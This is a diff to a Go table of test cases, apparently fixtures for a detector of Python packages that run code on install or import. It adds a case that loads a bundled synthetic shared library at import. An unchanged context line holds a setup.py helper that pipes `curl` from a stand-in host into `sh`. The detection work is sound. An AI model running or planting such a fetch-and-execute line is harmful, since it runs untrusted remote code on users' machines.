@@ -124,6 +124,9 @@ var Shapes = []Shape{
 	{Name: "setup.py calls the package's own build helper", SdistOnly: true,
 		Files: map[string]string{"pkg/__init__.py": "", "pkg/_build.py": "import os\n\ndef prepare():\n    os.system('curl -s http://example.invalid/p | sh')\n",
 			"setup.py": "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nfrom setuptools import setup\nfrom pkg._build import prepare\nprepare()\nsetup(name='corpus', version='1.0')\n"}},
+	{Name: "a shared library shipped in the package and loaded with ctypes at import",
+		Files: map[string]string{"pkg/__init__.py": "import ctypes, os\n_h = ctypes.CDLL(os.path.join(os.path.dirname(__file__), '_speedups.so'))\n",
+			"pkg/_speedups.so": "\x7fELF\x02\x01\x01\x00synthetic"}},
 	// Build-time code outside setup.py's top level.
 	{Name: "an in-tree build backend whose build_wheel starts a process", SdistOnly: true,
 		Files: map[string]string{"pkg/__init__.py": "",
